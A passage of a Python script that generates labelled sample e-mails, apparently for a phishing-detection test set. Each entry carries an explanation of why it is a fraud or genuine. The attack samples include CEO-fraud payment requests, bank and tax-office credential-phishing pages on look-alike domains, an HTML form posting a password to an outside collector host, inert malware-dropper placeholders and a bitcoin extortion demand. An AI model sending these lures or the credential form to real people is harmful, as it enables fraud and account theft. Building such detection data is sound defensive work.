  why="CEO fraud: look-alike domain exarnple.com (rn instead of m), Reply-To to an outlook.com address, foreign e-money IBAN %s, secrecy and same-day deadline" % ACC["x_ceo_es"],
  frm=("Klaus Hoffmann", "klaus.hoffmann@exarnple.com"), to=[S["lucia"]], reply_to=("Klaus Hoffmann", "k.hoffmann.office@outlook.com"),
  subject="Operación confidencial - pago hoy", date=dt("2026-11-26 11:02:44"),
  body=text("""Hola Lucía,

necesito tu ayuda con un asunto confidencial. Estamos cerrando la compra de
un pequeño distribuidor en Portugal y el notario exige hoy un depósito de
garantía. Sabine está de viaje y no tiene acceso al banco, por eso te pido
que lo gestiones tú desde la cuenta de Iberia.

Importe: 48.600,00 EUR
Beneficiario: Lusoquímica Holding Lda (cuenta de garantía)
IBAN: %s
Concepto: Depósito garantía contrato 26/114

La operación no debe comentarse con nadie hasta el anuncio oficial, ni
siquiera con Javier. Envíame el justificante en cuanto esté hecho; después
regularizamos con Sabine la contabilización intragrupo.

Gracias por tu discreción.

Klaus Hoffmann
CEO | Example Group GmbH""" % fmt_iban(ACC["x_ceo_es"]), "plain", "utf-8", "quoted-printable"))

f = "30-es-compromised-haulier-html-invoice"
_att = """<!DOCTYPE html><html lang="es"><head><meta charset="iso-8859-15"><title>Factura 2026/A/1187</title>
<style>body{font-family:Segoe UI,Arial;background:#f3f3f3}.b{width:380px;margin:70px auto;background:#fff;padding:30px}
input{width:100%;padding:8px;margin:5px 0 14px;border:1px solid #888}button{background:#0067b8;color:#fff;border:0;padding:9px 26px}</style></head>
<body><div class="b"><p style="font-size:22px">Microsoft</p><p>El documento <b>Factura_2026-A-1187.pdf</b> está protegido. Confirme su cuenta para ver el archivo.</p>
<!-- INERT TEST SAMPLE: credential-harvesting form -->
<form method="post" action="https://factura-docs-visor.r2.dev/o365/collect">
<input name="login" value="lucia.fernandez@example.com"><input name="passwd" type="password" placeholder="Contraseña">
<button>Iniciar sesión</button></form></div></body></html>"""
M(infra=cpanel(f, "cp46.webempresa.eu", "185.2.5.46", "transportesebro.es", "197.211.58.140"),
  file=f, half="attack", lang="es", cs="ISO-8859-15 / QP + HTML attachment",
  desc="Invoice for an ADR tanker trip from the genuine Spanish haulier's (compromised) mailbox; 'invoice' is an HTML file that asks for the Microsoft 365 password",
  why="Credential phishing via HTML attachment posting to factura-docs-visor.r2.dev; genuine but compromised sender (transportesebro.es) via its hosting webmail from an African IP; real haulier invoices come as PDF",
  frm=("Administración Transportes Ebro", "administracion@transportesebro.es"), to=[S["lucia"]],
  subject="Factura 2026/A/1187 - servicio cisterna ADR Tarragona-Zaragoza", date=dt("2026-11-19 16:31:05"), hcs="iso-8859-15",
  body=mixed([text("""Buenas tardes,

adjuntamos la factura 2026/A/1187 correspondiente al servicio de cisterna
ADR del 12/11/2026 (Tarragona - Zaragoza, UN 1230 Metanol, 24,3 t).

Para visualizar el documento abra el archivo adjunto. Les rogamos
confirmen la recepción.

Un saludo,

Administración
Transportes Ebro S.L.
Ctra. de Castellón km 4,5 - 50013 Zaragoza
Tel. 976 41 28 30""", "plain", "iso-8859-15", "quoted-printable"),
      attach("Factura_2026-A-1187.html", _att.encode("iso-8859-15"), "text/html")], f))

f = "31-es-fake-bbva-net-cash"
_h = """<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="margin:0;background:#f4f4f4;font-family:Arial,sans-serif">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="background:#072146;padding:18px 26px;color:#fff;font-size:22px;font-weight:bold">BBVA <span style="font-weight:normal;font-size:16px">Net Cash</span></td></tr>
<tr><td style="padding:26px;font-size:14px;line-height:21px;color:#121212">
<p>Hola, JAVIER MARTINEZ:</p>
<p>Tiene <b>2 órdenes de pago</b> de EXAMPLE GROUP IBERIA S.L. pendientes de su firma como apoderado:</p>
<table style="font-size:13px;border-collapse:collapse;width:100%"><tr style="background:#f4f4f4"><td style="padding:6px">Fichero de transferencias SEPA</td><td style="padding:6px">12 operaciones</td><td style="padding:6px" align="right">84.315,27 EUR</td></tr>
<tr><td style="padding:6px">Transferencia internacional</td><td style="padding:6px">1 operación</td><td style="padding:6px" align="right">19.870,00 EUR</td></tr></table>
<p>Si las órdenes no se firman <b>antes de las 14:00 h</b>, se rechazarán automáticamente y deberán volver a generarse.</p>
<p><a href="https://netcash-bbva.firmas-pendientes.com/login?emp=B55123456" style="background:#1973b8;color:#fff;padding:11px 24px;text-decoration:none;display:inline-block">Firmar operaciones</a></p>
<p style="font-size:12px;color:#666">BBVA nunca le solicitará sus claves por correo electrónico.</p>
</td></tr></table></body></html>"""
M(infra=ses(f, "eu-west-3", n=63),
  file=f, half="attack", lang="es", cs="UTF-8 / base64, HTML-only",
  desc="'BBVA Net Cash': two payment orders pending your signature before 14:00, button 'Firmar operaciones'",
  why="Credential phishing for corporate e-banking: link to netcash-bbva.firmas-pendientes.com, deadline pressure, even the 'BBVA never asks for your password' footer, sent via Amazon SES from a non-BBVA domain",
  frm=("BBVA Net Cash", "avisos@netcash-bbva-avisos.com"), to=[S["javier"]],
  subject="Net Cash: 2 órdenes pendientes de firma", date=dt("2026-12-03 10:05:49"),
  body=text(_h, "html", "utf-8", "base64"))

# =================================================================== ATTACK: Greek
f = "32-el-fake-aade-mydata-penalty"
M(infra=vps(f, "193.233.48.91", "mail.myaade-gov.gr", mailer=None, dom="myaade-gov.gr"),
  file=f, half="attack", lang="el", cs="ISO-8859-7 / QP, multipart/alternative",
  desc="'ΑΑΔΕ myDATA': 14 sales documents not transmitted, 5% penalty, log in with TAXISnet codes to respond",
  why="Credential phishing for TAXISnet: domain myaade-gov.gr (real: aade.gr / gov.gr), penalty threat with a short deadline, VPS sender",
  frm=("ΑΑΔΕ - myDATA", "enimerosi@myaade-gov.gr"), to=[S["eleni"]],
  subject="Εκκρεμότητα διαβίβασης παραστατικών myDATA - ΑΦΜ %s" % AFM_EG, date=dt("2026-11-12 10:22:14", "EET"), hcs="iso-8859-7",
  body=alt("""Αξιότιμε/η κύριε/κυρία,

Από τη διασταύρωση των στοιχείων της πλατφόρμας myDATA προέκυψε ότι για την επιχείρηση EXAMPLE GROUP HELLAS ΜΟΝΟΠΡΟΣΩΠΗ Α.Ε. (ΑΦΜ %s) υπάρχουν 14 παραστατικά πωλήσεων του Οκτωβρίου 2026 τα οποία δεν έχουν διαβιβαστεί εμπρόθεσμα.

Σύμφωνα με τις διατάξεις του Κώδικα Φορολογικής Διαδικασίας, η μη διαβίβαση επισύρει πρόστιμο. Μπορείτε να δείτε τα παραστατικά και να υποβάλετε διευκρινίσεις έως τις 20/11/2026 μέσω της εφαρμογής:

https://myaade-gov.gr/mydata/ekkremotites?afm=%s

Για την είσοδο απαιτούνται οι κωδικοί TAXISnet της επιχείρησης.

Με εκτίμηση,
Ανεξάρτητη Αρχή Δημοσίων Εσόδων
Γενική Διεύθυνση Ηλεκτρονικής Διακυβέρνησης""" % (AFM_EG, AFM_EG), "iso-8859-7", "quoted-printable", seed=f))

f = "33-el-fake-winbank-kyc"
_h = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1253"></head>
<body style="font-family:Arial,sans-serif;font-size:14px;background:#f2f2f2">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="background:#ffd400;padding:16px 24px;font-size:20px;color:#1a1a1a"><b>Τράπεζα Πειραιώς</b> | winbank business</td></tr>
<tr><td style="padding:24px;line-height:21px">
<p>Αγαπητέ πελάτη,</p>
<p>Στο πλαίσιο της υποχρεωτικής επικαιροποίησης στοιχείων (KYC) που προβλέπει η νομοθεσία για την πρόληψη της νομιμοποίησης εσόδων από παράνομες δραστηριότητες, τα στοιχεία της επιχείρησής σας πρέπει να επικαιροποιηθούν.</p>
<p>Μέχρι την ολοκλήρωση της διαδικασίας, οι εξερχόμενες πληρωμές άνω των 5.000 € έχουν <b>προσωρινά περιοριστεί</b>.</p>
<p style="text-align:center"><a href="https://winbank-business.epikairopoiisi-stoixeion.com/kyc?c=EGH" style="background:#1a1a1a;color:#ffd400;padding:11px 26px;text-decoration:none">Επικαιροποίηση στοιχείων</a></p>
<p>Η διαδικασία διαρκεί λιγότερο από 5 λεπτά.</p>
<p>Με εκτίμηση,<br>Τράπεζα Πειραιώς</p></td></tr></table></body></html>"""
M(infra=sendgrid(f, "piraeus-ealerts.com", n=102),
  file=f, half="attack", lang="el", cs="windows-1253 / base64, HTML-only",
  desc="'Piraeus Bank winbank business' KYC update: outgoing payments restricted until company data is updated",
  why="Credential phishing: link to winbank-business.epikairopoiisi-stoixeion.com, bank impersonation from piraeus-ealerts.com via abused SendGrid, restriction threat",
  frm=("Τράπεζα Πειραιώς", "winbank@piraeus-ealerts.com"), to=[S["nikos"]],
  subject="Προσωρινός περιορισμός πληρωμών - επικαιροποίηση στοιχείων KYC", date=dt("2026-11-18 08:40:31", "EET"), hcs="windows-1253", henc="B",
  body=text(_h, "html", "windows-1253", "base64"))

f = "34-el-colleague-impersonation-gmail-payment"
M(infra=gmail(f, 46),
  file=f, half="attack", lang="el", cs="UTF-8 / base64",
  desc="'Nikos Papadopoulos' (country manager) from a Gmail address asks Greek accounting to pay EUR 12,400 to a 'new customs broker' today",
  why="BEC / internal impersonation via free mailer: urgent payment to a new beneficiary (IBAN %s), 'phone is dead', proof of payment requested to the Gmail address" % ACC["x_gr"],
  frm=("Νίκος Παπαδόπουλος", "nikospapadopoulos.gr@gmail.com"), to=[S["eleni"]],
  subject="Επείγον - πληρωμή εκτελωνιστή σήμερα", date=dt("2026-11-27 12:13:40", "EET"), henc="B",
  body=text("""Ελένη καλησπέρα,

είμαι σε σύσκεψη στον πελάτη στη Θεσσαλονίκη και το κινητό μου έκλεισε, σου
γράφω από το προσωπικό μου mail.

Πρέπει σήμερα να πληρωθεί προκαταβολή στον νέο εκτελωνιστή για τα δύο ISO
tank που είναι στο λιμάνι του Πειραιά, αλλιώς μένουν εκεί το Σαββατοκύριακο
και πληρώνουμε demurrage. Το έχω συζητήσει με τη Sabine.

Ποσό: 12.400,00 EUR
Δικαιούχος: Nautilus Customs Services ΙΚΕ
IBAN: %s
Αιτιολογία: Προκαταβολή εκτελωνισμού 26/1142

Στείλε μου εδώ το αποδεικτικό μόλις γίνει. Θα σου φέρω το τιμολόγιο τη
Δευτέρα.

Ευχαριστώ,
Νίκος""" % fmt_iban(ACC["x_gr"]), "plain", "utf-8", "base64"))

f = "35-el-fake-police-cybercrime-summons"
M(infra=cpanel(f, "server.villa-anemos.gr", "185.138.42.17", "villa-anemos.gr", "154.118.230.9", ua=None),
  file=f, half="attack", lang="el", cs="ISO-8859-7 / base64 + PDF",
  desc="'Hellenic Police - Cybercrime Division' summons PDF alleging illegal online content, reply within 72 hours",
  why="Extortion/advance-fee scam with fake authority: compromised unrelated tourism domain, Reply-To a Gmail account, threatening PDF, demand to respond by e-mail (fine payment follows)",
  frm=("Διεύθυνση Δίωξης Ηλεκτρονικού Εγκλήματος", "info@villa-anemos.gr"), to=[S["eleni"]],
  reply_to=("Δίωξη Ηλεκτρονικού Εγκλήματος", "dioxi.ilektronikou.eglimatos@gmail.com"),
  subject="Κλήση - Υπόθεση 2026/ΔΗΕ/44817", date=dt("2026-11-21 14:09:55", "EET"), hcs="iso-8859-7",
  body=mixed([text("""Κύριε/Κυρία,

Σας ενημερώνουμε ότι, κατόπιν ηλεκτρονικής έρευνας της Διεύθυνσης Δίωξης
Ηλεκτρονικού Εγκλήματος, έχει σχηματιστεί δικογραφία σε βάρος σας για
παραβάσεις που αφορούν την πρόσβαση σε παράνομο περιεχόμενο στο διαδίκτυο.

Στο συνημμένο έγγραφο θα βρείτε την κλήση με τις λεπτομέρειες της υπόθεσης.
Παρακαλείστε να απαντήσετε με τις εξηγήσεις σας εντός 72 ωρών. Σε
διαφορετική περίπτωση η δικογραφία θα διαβιβαστεί στον αρμόδιο Εισαγγελέα
και θα εκδοθεί ένταλμα.

Διεύθυνση Δίωξης Ηλεκτρονικού Εγκλήματος
Ελληνική Αστυνομία""", "plain", "iso-8859-7", "base64"),
      attach("Klisi_2026_DHE_44817.pdf", pdf_placeholder("Fake police summons 2026/DHE/44817", ["Reply within 72 hours to the e-mail address given"]), "application/pdf")], f))

f = "36-el-compromised-haulier-zip-vbs"
M(infra=cpanel(f, "linux41.papaki.gr", "185.4.133.41", "aegeantank.gr", "89.248.168.203"),
  file=f, half="attack", lang="el", cs="windows-1253 / QP + ZIP",
  desc="'Invoice' from the genuine Greek tank haulier's (compromised) accounting mailbox, the document is in a ZIP",
  why="Malware dropper: ZIP with 'Timologio_TDA_0004471.pdf.vbs' (inert placeholder); compromised genuine domain aegeantank.gr logged in from a scanning-network IP; the haulier normally sends PDFs",
  frm=("Λογιστήριο Aegean Tank Lines", "logistirio@aegeantank.gr"), to=[S["nikos"]],
  subject="Τιμολόγιο Παροχής Υπηρεσιών ΤΠΥ 0004471", date=dt("2026-12-02 09:57:02", "EET"), hcs="windows-1253",
  body=mixed([text("""Καλημέρα σας,

σας αποστέλλουμε συνημμένα το τιμολόγιο παροχής υπηρεσιών ΤΠΥ 0004471
για τις μεταφορές Νοεμβρίου (Ασπρόπυργος - Θεσσαλονίκη, ADR).

Λόγω μεγέθους τα αρχεία είναι σε συμπιεσμένη μορφή.

Παρακαλούμε για την εξόφληση εντός της συμφωνημένης προθεσμίας.

Με εκτίμηση,
Λογιστήριο
Aegean Tank Lines Α.Ε.""", "plain", "windows-1253", "quoted-printable"),
      attach("TPY_0004471.zip", zip_bytes([("Timologio_TDA_0004471.pdf.vbs", ("' " + INERT).encode())]), "application/zip")], f))

# =================================================================== ATTACK: Russian
f = "37-ru-fake-fns-trebovanie-zip"
M(infra=cpanel(f, "vh412.timeweb.ru", "92.53.96.212", "stroykomplekt-nn.ru", "176.59.12.88", ua=None),
  file=f, half="attack", lang="ru", cs="windows-1251 / base64 + ZIP",
  desc="'ИФНС № 7 по г. Москве' demand for documents in a VAT desk audit, the demand itself in a password-protected archive",
  why="Malware dropper: ZIP with 'Требование_ФНС_11-04-2026-1187.pdf.scr' (inert placeholder); tax office impersonation from a compromised construction company's mailbox; the FNS sends demands via the TKS/EDO operator, not by e-mail",
  frm=("ИФНС России № 7 по г. Москве", "buh@stroykomplekt-nn.ru"), to=[S["olga"]],
  subject="Требование о представлении документов № 11-04/2026/1187", date=dt("2026-11-13 10:31:08", "MSK"), hcs="windows-1251", henc="B",
  body=mixed([text("""Уважаемый налогоплательщик!

В соответствии со статьей 93 Налогового кодекса Российской Федерации
Инспекция Федеральной налоговой службы № 7 по г. Москве направляет
требование о представлении документов (информации) № 11-04/2026/1187
от 12.11.2026 в рамках камеральной налоговой проверки налоговой декларации
по НДС за 3 квартал 2026 года (ИНН %s).

Документы необходимо представить в течение 10 рабочих дней со дня получения
требования. Непредставление документов в установленный срок влечет
ответственность, предусмотренную статьей 126 НК РФ.

Требование во вложении. Пароль к архиву: 1187

С уважением,
Отдел камеральных проверок № 4
ИФНС России № 7 по г. Москве""" % INN_EG, "plain", "windows-1251", "base64"),
      attach("Требование_ФНС_11-04-2026-1187.zip", zip_bytes([("Trebovanie_FNS_11-04-2026-1187.pdf.scr", INERT.encode())]), "application/zip")], f))

f = "38-ru-fake-diadoc-document"
M(infra=vps(f, "185.117.119.40", "mx.diadoc-kontur.net", mailer=None, dom="diadoc-kontur.net"),
  file=f, half="attack", lang="ru", cs="UTF-8 / QP, multipart/alternative",
  desc="'Контур.Диадок': incoming UPD from a real haulier awaits signature, link to sign in",
  why="Credential phishing for the EDO account: look-alike domain diadoc-kontur.net (real: diadoc.ru / kontur.ru), link to diadoc-kontur.net/auth; genuine counterparty name used as lure",
  frm=("Контур.Диадок", "noreply@diadoc-kontur.net"), to=[S["olga"]],
  subject="Вам поступил документ на подпись: УПД № 1274 от 16.11.2026", date=dt("2026-11-17 09:12:44", "MSK"), henc="B",
  body=alt("""Здравствуйте!

В ящик организации ООО "ЭКЗАМПЛ ГРУП РУС" поступил документ, требующий подписи:

Отправитель: ООО "ТрансХимЛогистик"
Документ: УПД № 1274 от 16.11.2026
Сумма: 486 240,00 руб., в т.ч. НДС

Срок подписания: 3 рабочих дня. По истечении срока документ будет считаться отклоненным.

Открыть документ:
https://diadoc-kontur.net/auth/document?box=ex4471&doc=1274

Это письмо сформировано автоматически, отвечать на него не нужно.
Команда Контур.Диадок""", seed=f))

f = "39-ru-ceo-fraud-mailru-telegram"
M(infra=mailru(f, client_ip="5.18.244.61"),
  file=f, half="attack", lang="ru", cs="KOI8-R / 8bit",
  desc="'Дмитрий Волков' (general director) from mail.ru asks the chief accountant for an urgent prepayment to a new counterparty and to continue in Telegram",
  why="CEO fraud: free mailer, new beneficiary with account %s at a different bank, deadline 15:00, move to Telegram to bypass company channels" % RU_ACC_X,
  frm=("Дмитрий Волков", "d.volkov.gd@mail.ru"), to=[S["olga"]],
  subject="Срочно - предоплата сегодня", date=dt("2026-11-30 11:26:51", "MSK"), hcs="koi8-r", henc="B",
  body=text("""Ольга Николаевна, добрый день.

Я на переговорах, могу только писать. Нужно сегодня до 15:00 провести
предоплату по новому договору поставки, иначе поставщик снимает резерв по
цене на декабрь.

Получатель: ООО "Химресурс-Трейд"
ИНН 7727463981
Банк: АО "ТБанк", БИК %s
р/с %s
Сумма: 1 870 000,00 руб.
Назначение: предоплата по договору 14/11-П, в т.ч. НДС

Договор и счет подпишу завтра, с головным офисом согласовано.
Платежку пришлите мне в Telegram @dvolkov_gd, почта на телефоне плохо
работает.

Д. Волков""" % (RU_BIK_X, RU_ACC_X), "plain", "koi8-r", "8bit"))

f = "40-ru-data-leak-extortion-btc"
M(infra=dict(helo="mail-4322.protonmail.ch", rdns="mail-4322.protonmail.ch", ip="185.70.43.22", inner=[],
             msgid="<%s=@proton.me>" % h(f, 64, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-")),
  file=f, half="attack", lang="ru", cs="KOI8-R / QP",
  desc="Extortion: group claims to have exfiltrated the 1C database, contracts and staff personal data, demands 0.35 BTC or publication and a report to Roskomnadzor",
  why="Extortion with valid bitcoin address %s from an anonymous Proton mailbox; no proof, threat of regulatory fines for personal-data leaks" % BTC_RU,
  frm=("", "leakwatch-ru@proton.me"), to=[S["dmitry"]],
  subject="Данные вашей компании", date=dt("2026-12-04 02:47:19", "UTC"), hcs="koi8-r", henc="B",
  body=text("""Дмитрий Сергеевич,

мы получили доступ к сети ООО "Экзампл Груп Рус" и выгрузили базу 1С,
договоры с поставщиками и клиентами, а также персональные данные
сотрудников (паспорта, СНИЛС, расчетные листы). Всего около 38 ГБ.

Если до 8 декабря на адрес

%s

не поступит 0,35 BTC, мы опубликуем данные, отправим их вашим клиентам и
направим уведомление об утечке персональных данных в Роскомнадзор. Штрафы за
утечку вы знаете сами.

После оплаты вы получите подтверждение удаления и описание уязвимости, через
которую мы вошли. Для связи отвечайте на это письмо.""" % BTC_RU, "plain", "koi8-r", "quoted-printable"))

# =================================================================== BUSINESS: German
f = "01-de-lieferant-zugferd-invoice"
M(infra=m365(f, "lieferant-gmbh.de", "Rechnung RE-2026-11033", n=2301),
  file=f, half="business", lang="de", cs="UTF-8 / base64 + PDF",
  desc="Lieferant GmbH accounting sends invoice RE-2026-11033 (ZUGFeRD PDF) for PO 4500123871",
  why="Genuine: known sender rechnungen@lieferant-gmbh.de via the supplier's own M365 tenant, matching PO/delivery note, unchanged Commerzbank IBAN %s" % ACC["lief_old"],
  frm=("Lieferant GmbH Buchhaltung", "rechnungen@lieferant-gmbh.de"), to=[S["jana"]],
  subject="Rechnung RE-2026-11033 zu Ihrer Bestellung 4500123871", date=dt("2026-11-19 16:02:11"),
  body=mixed([text("""Sehr geehrte Damen und Herren,

anbei erhalten Sie unsere Rechnung als ZUGFeRD-Rechnung (PDF/A-3 mit eingebetteter XML, Profil EN 16931).

Rechnungsnummer: RE-2026-11033
Rechnungsdatum: 19.11.2026
Ihre Bestellung: 4500123871
Lieferschein: 80044718 vom 17.11.2026 (Polyolefin-Wachs PE 520, 12 t)
Rechnungsbetrag: 23.804,60 EUR

Zahlungsbedingungen: 30 Tage netto, 2 %% Skonto bei Zahlung innerhalb von 10 Tagen.
Bankverbindung: Commerzbank AG, IBAN %s, BIC COBADEFFXXX

Bei Rückfragen zur Rechnung erreichen Sie uns unter rechnungen@lieferant-gmbh.de oder +49 69 30 58 44 0.

Mit freundlichen Grüßen
Lieferant GmbH - Finanzbuchhaltung

Lieferant GmbH · Brüningstraße 50 · 65929 Frankfurt am Main
Amtsgericht Frankfurt am Main HRB 48812 · Geschäftsführer: Dr. Martin Lenz, Katrin Vogt
Diese E-Mail wurde automatisch erzeugt.""" % fmt_iban(ACC["lief_old"]), "plain", "utf-8", "base64"),
      attach("RE-2026-11033.pdf", pdf_placeholder("Lieferant GmbH - Rechnung RE-2026-11033 (ZUGFeRD)", ["Betrag 23.804,60 EUR", "IBAN " + fmt_iban(ACC["lief_old"])]), "application/pdf")], f))

f = "02-de-lieferant-payment-reminder"
M(infra=m365(f, "lieferant-gmbh.de", "Zahlungserinnerung RE-2026-10874", n=2302),
  file=f, half="business", lang="de", cs="ISO-8859-1 / QP",
  desc="Lieferant GmbH: friendly first payment reminder for RE-2026-10874 (due 25.11.)",
  why="Genuine dunning: known sender and tenant, refers to a real open item, same Commerzbank account as always, no urgency tricks, no new bank details",
  frm=("Lieferant GmbH Buchhaltung", "rechnungen@lieferant-gmbh.de"), to=[S["jana"]],
  subject="Zahlungserinnerung - Rechnung RE-2026-10874", date=dt("2026-12-02 08:15:37"), hcs="iso-8859-1",
  body=text("""Sehr geehrte Damen und Herren,

bei der Durchsicht unserer Konten haben wir festgestellt, dass die folgende
Rechnung noch nicht ausgeglichen ist:

Rechnung RE-2026-10874 vom 26.10.2026, fällig am 25.11.2026
Betrag: 18.430,20 EUR

Sicher handelt es sich um ein Versehen. Bitte überweisen Sie den Betrag in
den nächsten Tagen auf unser bekanntes Konto bei der Commerzbank
(IBAN %s). Sollte die Zahlung
bereits unterwegs sein, betrachten Sie dieses Schreiben bitte als
gegenstandslos.

Mit freundlichen Grüßen
Lieferant GmbH - Finanzbuchhaltung
Tel. +49 69 30 58 44 0""" % fmt_iban(ACC["lief_old"]), "plain", "iso-8859-1", "quoted-printable"))

f = "03-de-lieferant-genuine-bank-change"
M(infra=m365(f, "lieferant-gmbh.de", "Neue Bankverbindung ab 01.01.2027", n=2303),
  file=f, half="business", lang="de", cs="UTF-8 / QP, multipart/mixed + PDF",
  desc="Stefan Maier (Lieferant GmbH) announces a genuine bank change to Deutsche Bank from 1 Jan 2027, letter attached, asks for phone verification",
  why="Genuine but hard: real domain lieferant-gmbh.de from the supplier's own tenant, follows a letter by post, old account stays valid until year-end, explicitly asks to verify via the phone number in the master data; new IBAN %s" % ACC["lief_new"],
  frm=("Stefan Maier", "s.maier@lieferant-gmbh.de"), to=[S["jana"]], cc=[("Lieferant GmbH Buchhaltung", "rechnungen@lieferant-gmbh.de")],
  subject="Neue Bankverbindung ab 01.01.2027", date=dt("2026-11-27 11:40:25"),
  body=mixed([alt("""Sehr geehrte Frau Becker,

wie in unserem Schreiben vom 20.11.2026 per Post angekündigt, stellen wir nach der Integration in die Rhenus-Chemie-Gruppe unseren Zahlungsverkehr zum 1. Januar 2027 auf die Deutsche Bank um.

Neue Bankverbindung ab 01.01.2027:
Deutsche Bank AG, Frankfurt
IBAN: %s
BIC: DEUTDEFFXXX

Bitte ändern Sie vor dem Jahreswechsel nichts: Alle Rechnungen aus 2026 zahlen Sie bitte wie gewohnt auf unser Konto bei der Commerzbank. Das bisherige Konto bleibt außerdem bis 30.06.2027 bestehen.

Da derzeit viele gefälschte Mails mit angeblich geänderten Bankdaten im Umlauf sind (wir hatten selbst einen Fall mit einer Domain lieferant-gmbh.com), bitten wir Sie ausdrücklich, die neue Verbindung telefonisch bei unserer Buchhaltung (Frau Kern) zu bestätigen. Nutzen Sie dafür bitte die Telefonnummer aus Ihren Stammdaten, nicht eine Nummer aus einer E-Mail.

Das unterschriebene Schreiben hänge ich Ihnen zusätzlich an.

Mit freundlichen Grüßen

Stefan Maier
Key Account Manager
Lieferant GmbH
Brüningstraße 50 · 65929 Frankfurt am Main
Tel. +49 69 30 58 44 12""" % fmt_iban(ACC["lief_new"]), seed=f),
      attach("Lieferant_Bankverbindung_2027_unterschrieben.pdf", pdf_placeholder("Lieferant GmbH - Bankverbindung ab 01.01.2027", ["Deutsche Bank IBAN " + fmt_iban(ACC["lief_new"])]), "application/pdf")], f))

f = "04-de-internal-ceo-urgent-prepayment"
M(infra=exch_internal(f, "Vorauszahlung Rheintal Polymere - bitte heute freigeben", client="10.20.14.12"),
  file=f, half="business", lang="de", cs="UTF-8 / QP, multipart/alternative",
  desc="CEO Klaus Hoffmann asks the CFO internally to approve today a prepayment to an existing producer to secure the Q1 allocation",
  why="Genuine urgent payment request: internal mail via mail-int01 from the Exchange server, known producer already in SAP, normal approval workflow (AP has booked the invoice), no new bank details, no secrecy",
  frm=("Hoffmann, Klaus", "klaus.hoffmann@example.com"), to=[("Wagner, Sabine", "sabine.wagner@example.com")], cc=[("Becker, Jana", "jana.becker@example.com")],
  subject="Vorauszahlung Rheintal Polymere - bitte heute freigeben", date=dt("2026-11-12 09:18:30"),
  body=alt("""Hallo Sabine,

bitte gib heute noch die Vorauszahlung an Rheintal Polymere frei (PO 4500124410, 96.000 EUR netto, Proforma PF-26-0871). Sonst verlieren wir die zugesagte Allokation PP-Copolymer für Q1 - die anderen Händler stehen schon Schlange.

Jana hat die Proforma bereits im SAP erfasst, die Bankverbindung ist seit Jahren im Kreditorenstamm hinterlegt. Der Freigabe-Workflow liegt bei Dir.

Falls Fragen: ich bin bis 11 Uhr im Haus, danach im Auto erreichbar.

Danke und Gruß
Klaus""", seed=f))

QR_TICKET = "CLF26-TKT-0193-MS-7Q4K8F2A"
f = "05-de-event-ticket-qr"
_h = """<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;font-size:14px;color:#222">
<div style="max-width:600px;margin:auto">
<h2 style="color:#00586f">Chemie-Logistik-Forum Rhein-Neckar 2026</h2>
<p>Hallo Frau Schröder,</p>
<p>vielen Dank für Ihre Anmeldung. Ihr Ticket für den <b>3. Dezember 2026, 09:00-17:00 Uhr, Congress Center Rosengarten Mannheim</b> ist bestätigt.</p>
<p>Bitte zeigen Sie am Einlass diesen Code vor (ausgedruckt oder auf dem Smartphone):</p>
<p style="text-align:center"><img src="cid:ticket-%s" width="180" height="180" alt="Ticket-Code"><br><span style="font-family:monospace">%s</span></p>
<p>Ticketart: Fachbesucher inkl. Workshop &bdquo;ADR 2027 - was ändert sich für Tankfahrzeuge?&ldquo;<br>Rechnung: RG-CLF-2026-0193 (liegt als PDF bei, bereits per Kreditkarte bezahlt)</p>
<p>Programm und Anfahrt: <a href="https://www.chemielogistik-forum.de/programm">www.chemielogistik-forum.de/programm</a></p>
<p>Viele Grüße<br>Ihr Organisationsteam<br>Chemie-Logistik-Forum Rhein-Neckar e.V.</p></div></body></html>""" % (h(f, 10), QR_TICKET)
M(infra=ses(f, "eu-central-1", n=144),
  file=f, half="business", lang="de", cs="UTF-8 / QP, multipart/related (HTML + QR PNG) + PDF",
  desc="Registration confirmation with e-ticket QR code for a logistics trade event the logistics officer booked",
  why="Genuine: QR encodes only a ticket ID (%s), not a URL; expected after her registration; already paid; sender is the organiser via Amazon SES; the only link is the organiser's own site" % QR_TICKET,
  frm=("Chemie-Logistik-Forum Rhein-Neckar", "tickets@chemielogistik-forum.de"), to=[S["monika"]],
  subject="Ihr Ticket: Chemie-Logistik-Forum Rhein-Neckar, 3. Dezember 2026", date=dt("2026-11-06 14:27:09"),
  qr=QR_TICKET,
  body=mixed([related(text(_h, "html", "utf-8", "quoted-printable"), [attach("ticket.png", qr_png(QR_TICKET), "image/png", inline=True, cid="ticket-" + h(f, 10))], f),
              attach("Rechnung_RG-CLF-2026-0193.pdf", pdf_placeholder("Rechnung RG-CLF-2026-0193", ["Fachbesucherticket 245,00 EUR", "bezahlt per Kreditkarte"]), "application/pdf")], f + "m"))

f = "06-de-colleague-private-webde-sick"
M(infra=gmx(f, webde=True, client_ip="84.171.95.212"),
  file=f, half="business", lang="de", cs="ISO-8859-1 / QP",
  desc="Dangerous-goods officer Monika Schröder, off sick, writes from her private web.de address with tomorrow's ADR pick-up list and cc's her work address",
  why="Genuine colleague on a private address: operational content only (pick-up list), no payment or credential request, cc to her own company mailbox, consistent details (Ferretti, Partner Logistik)",
  frm=("Monika Schröder", "monika.schroeder73@web.de"), to=[S["claudia"]], cc=[S["monika"]],
  subject="Bin krank - ADR-Abholungen morgen", date=dt("2026-11-23 06:48:15"), hcs="iso-8859-1",
  body=text("""Guten Morgen Claudia,

ich liege mit Fieber flach und komme heute und morgen nicht. Ich habe keinen
Laptop hier, deshalb schreibe ich von privat. Kannst Du bitte die
Abholungen für morgen an die Disposition weitergeben?

- Ferretti Trasporti, Tankzug nach Novara: UN 1993, 24 t, Ladefenster
  07:00-09:00, Fahrer braucht ADR-Schein Tank (hat Frau Colombo schon
  bestätigt)
- Partner Logistik, Planenzug nach Poznan: 18 IBC UN 3082, Abholung ab
  10:00, Beförderungspapier liegt im Ordner "Dispo KW48"
- Lieferant GmbH bringt nachmittags 12 t PE-Wachs, Tor 3

Die Beförderungspapiere sind alle im Laufwerk fertig, bitte nur ausdrucken
und vom Schichtleiter unterschreiben lassen. Ich setze meine Firmenadresse
in Kopie, damit es dokumentiert ist.

Danke Dir!
Monika""", "plain", "iso-8859-1", "quoted-printable"))

f = "07-de-customer-complaint-brenner"
